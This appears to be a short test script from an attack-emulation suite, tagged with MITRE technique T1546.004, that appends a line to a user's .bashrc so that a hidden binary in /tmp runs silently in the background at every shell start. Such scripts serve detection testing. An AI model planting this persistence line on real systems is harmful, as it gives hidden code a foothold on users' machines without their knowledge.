#!/usr/bin/env bash
# attack: T1546.004 Append a payload to a user's .bashrc
. "$(dirname "$0")/lib/common.sh"
mkhome
echo 'nohup /tmp/.x >/dev/null 2>&1 &' >> "$HOME/.bashrc"
